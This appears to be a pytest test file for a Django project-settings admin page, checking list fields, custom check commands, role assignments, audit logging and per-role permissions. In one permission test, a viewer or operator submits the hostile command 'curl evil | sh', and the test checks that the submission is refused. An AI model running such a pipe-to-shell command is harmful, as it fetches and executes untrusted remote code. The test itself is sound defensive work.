"""A project's settings page: lists as lines, roles given by exact name, and who may set what."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from projects.editing import SETTABLE
from projects.form_fields import ChecksField, LinesField
from projects.forms import FILTERS
from projects.models import AuditEvent, Membership, Project, Role
from tests.factories import create_membership, create_project, create_superuser, create_user
from tests.projects.admin_forms import save

pytestmark = pytest.mark.django_db


@pytest.fixture
def boss(client):
    client.force_login(create_superuser(username="boss"))
    return client


@pytest.fixture
def project():
    return create_project()


@pytest.fixture
def manager(client, project):
    user = create_user(Role.MANAGER, project=project, is_staff=True, username="mia")
    client.force_login(user)
    return client


def page(project):
    return reverse("admin:projects_project_change", args=[project.pk])


def roles(project):
    return dict(project.memberships.values_list("user__username", "role"))


def test_every_setting_is_on_the_page(boss, project):
    form = boss.get(page(project)).context["adminform"].form
    assert set(SETTABLE) - {"issue_filter"} <= set(form.fields)
    assert set(FILTERS) <= set(form.fields)


def test_the_folder_is_shown_to_a_manager_and_set_by_superusers_alone(manager, project):
    project.working_dir = "repos/mine"
    project.save()
    shown = manager.get(page(project))
    assert "working_dir" not in shown.context["adminform"].form.fields
    assert "repos/mine" in shown.content.decode()
    manager.post(page(project), {"working_dir": "repos/other"})
    project.refresh_from_db()
    assert project.working_dir == "repos/mine"


def test_settings_are_named_in_words_and_the_way_back_leads_to_the_board(manager, project):
    text = manager.get(page(project)).content.decode()
    for words in ("Cost of an attempt, at most (USD)", "Monthly budget (USD)", "Workspace folder"):
        assert f"{words}:</label>" in text
    assert "usd:" not in text
    assert f'<a href="/admin/project/{project.pk}/"><bdi>' in text
    assert "Home</a>" not in text


def test_trouble_and_workspace_are_shown_where_there_is_any(manager, project):
    text = manager.get(page(project)).content.decode()
    assert "Trouble:" not in text
    assert "Retry at:" not in text
    assert "Workspace:" not in text
    Project.objects.update(error_code="github.bad_token", error_message="Refused.", workspace_bytes=5 * 2**20)
    text = manager.get(page(project)).content.decode()
    assert "GitHub bad token" in text
    assert "5.0\xa0MB" in text


def test_commands_say_which_of_them_runs_and_which_the_agent_is_told(boss, project):
    text = boss.get(page(project)).content.decode()
    for said in (
        "as the test where there is no test command, else as one more check",
        "Named in the prompt where there is no verification command",
        "Empty: we parse the changed Python and JSON files",
        "An empty one is left out, but for the smoke command",
    ):
        assert said in text


def test_lists_are_written_one_per_line(boss, project):
    save(
        boss,
        project,
        filter_labels="bug\n help wanted \n\nbug",
        filter_milestones="1.0",
        skip_labels="wontfix\nduplicate",
        custom_checks="licences: make licences\nurls: curl http://x:80",
    )
    project.refresh_from_db()
    assert project.issue_filter == {"labels": ["bug", "help wanted"], "milestones": ["1.0"]}
    assert project.skip_labels == ["wontfix", "duplicate"]
    assert project.custom_checks == [
        {"name": "licences", "command": "make licences"},
        {"name": "urls", "command": "curl http://x:80"},
    ]
    assert AuditEvent.objects.get().detail["fields"] == ["custom_checks", "issue_filter", "skip_labels"]


def test_saving_the_page_as_it_stands_changes_nothing(boss):
    stored = {
        "issue_filter": {"labels": ["a b"], "exclude_labels": ["c"]},
        "complex_labels": ["x"],
        "custom_checks": [{"name": "a: b", "command": "one\ntwo"}, {"name": "c", "command": "d: e"}],
        "setup_command": "make  deps\n\tmake more",
    }
    project = create_project(**stored)
    assert save(boss, project).status_code == 302
    project.refresh_from_db()
    assert {name: getattr(project, name) for name in stored} == stored
    assert not AuditEvent.objects.exists()


@pytest.mark.parametrize(
    "text", ["no command", "name:", ": command", "[not json", '[{"name": "x"}]', "a: b\na: c", "Lint: make"]
)
def test_a_check_of_another_shape_is_refused_beside_its_field(boss, project, text):
    answer = save(boss, project, custom_checks=text)
    assert answer.status_code == 400
    assert answer.context["adminform"].form.errors["custom_checks"]
    project.refresh_from_db()
    assert project.custom_checks == []


def test_fields_of_lines_keep_to_a_length():
    for field in (LinesField(label="x"), ChecksField(label="x", help_text="")):
        with pytest.raises(Exception, match="at most"):
            field.clean("a: " + "b" * 30_000)


def test_only_a_manager_sets_commands_and_agent(client, project):
    for role in (Role.VIEWER, Role.OPERATOR):
        client.force_login(create_user(role, project=project, is_staff=True))
        assert "<textarea" not in client.get(page(project)).content.decode()
        body = {"name": "x", "test_command": "curl evil | sh", "agent": "command", "agent_command": "evil"}
        assert client.post(page(project), body).status_code == 403
    project.refresh_from_db()
    assert (project.test_command, project.agent, project.agent_command) == ("", "claude_code", "")
    client.force_login(create_user(Role.MANAGER, project=project, is_staff=True))
    assert save(client, project, test_command="make test").status_code == 302
    project.refresh_from_db()
    assert project.test_command == "make test"


@pytest.mark.parametrize("role", [Role.VIEWER, Role.OPERATOR])
def test_who_may_only_look_reads_the_lists_as_the_form_holds_them(client, role):
    project = create_project(
        issue_filter={"labels": ["bug", "refunds"], "milestones": ["1.0"]},
        skip_labels=["needs-discussion", "later"],
        custom_checks=[{"name": "licences", "command": "make licences"}],
    )
    client.force_login(create_user(role, project=project, is_staff=True))
    text = client.get(page(project)).content.decode()
    for label, lines in {
        "Labels, all of them": "bug<br>refunds",
        "None of these labels": "-",
        "In one of these milestones": "1.0",
        "Skip labels": "needs-discussion<br>later",
        "Custom checks": "licences: make licences",
    }.items():
        assert re.search(rf"{label}:</label>\s*<div class=\"readonly\">{lines}</div>", text), label
    for code in ("[&quot;", "[{", "Issue filter"):
        assert code not in text


def test_a_manager_gives_changes_and_takes_roles(manager, project):
    create_user(username="otto")
    new = {"memberships-1-username": "otto", "memberships-1-role": "viewer"}
    assert save(manager, project, **new).status_code == 302
    assert roles(project) == {"mia": "manager", "otto": "viewer"}
    assert save(manager, project, **{"memberships-1-role": "operator"}).status_code == 302
    assert roles(project)["otto"] == "operator"
    assert save(manager, project, **{"memberships-1-DELETE": "on"}).status_code == 302
    assert roles(project) == {"mia": "manager"}
    audit = AuditEvent.objects.order_by("id").values_list("actor", "verb", "detail__user", "detail__role")
    assert list(audit) == [
        ("mia", "role.given", "otto", "viewer"),
        ("mia", "role.changed", "otto", "operator"),
        ("mia", "role.taken", "otto", "operator"),
    ]


@pytest.mark.parametrize("name", ["ott", "OTTO", "nobody", "gone"])
def test_only_the_exact_name_of_an_active_user_will_do(manager, project, name):
    create_user(username="otto")
    create_user(username="gone", is_active=False)
    answer = save(manager, project, **{"memberships-1-username": name, "memberships-1-role": "viewer"})
    assert "no active user of exactly this name" in answer.content.decode()
    assert roles(project) == {"mia": "manager"}


def test_the_page_names_nobody_who_has_no_role_on_the_project(manager, project):
    create_membership(user=create_user(username="of-another-team"))
    assert "of-another-team" not in manager.get(page(project)).content.decode()


def test_a_browser_may_send_the_blank_row_of_which_its_script_makes_new_ones(manager, project):
    blank = {"memberships-__prefix__-id": "", "memberships-__prefix__-username": ""}
    assert save(manager, project, **blank).status_code == 302
    assert save(manager, project, **{"member-__prefix__-id": ""}).status_code == 400


def test_nobody_gets_a_second_role(manager, project):
    answer = save(manager, project, **{"memberships-1-username": "mia", "memberships-1-role": "viewer"})
    assert "has a role here already" in answer.content.decode()
    assert roles(project) == {"mia": "manager"}


@pytest.mark.parametrize("change", [{"memberships-0-role": "viewer"}, {"memberships-0-DELETE": "on"}])
def test_the_last_manager_stays_unless_a_superuser_says_otherwise(client, manager, project, change):
    answer = save(manager, project, **change)
    assert "keeps at least one manager" in answer.content.decode()
    assert roles(project) == {"mia": "manager"}
    client.force_login(create_superuser())
    assert save(client, project, **change).status_code == 302
    assert roles(project) != {"mia": "manager"}


def test_an_operator_gives_nobody_a_role(client, project):
    create_user(username="otto")
    user = create_user(Role.OPERATOR, project=project, is_staff=True)
    client.force_login(user)
    shown = client.get(page(project))
    assert shown.context["inline_admin_formsets"] == []
    body = {"memberships-TOTAL_FORMS": "1", "memberships-INITIAL_FORMS": "0"}
    body |= {"memberships-0-username": "otto", "memberships-0-role": "manager"}
    assert client.post(page(project), body).status_code == 403
    assert Membership.objects.count() == 1


def test_a_role_of_another_project_cannot_be_reached_through_the_form(manager, project):
    other = create_membership(user=create_user(username="otto"), role=Role.VIEWER)
    save(manager, project, **{"memberships-0-id": other.pk, "memberships-0-role": "manager"})
    assert roles(other.project) == {"otto": "viewer"}
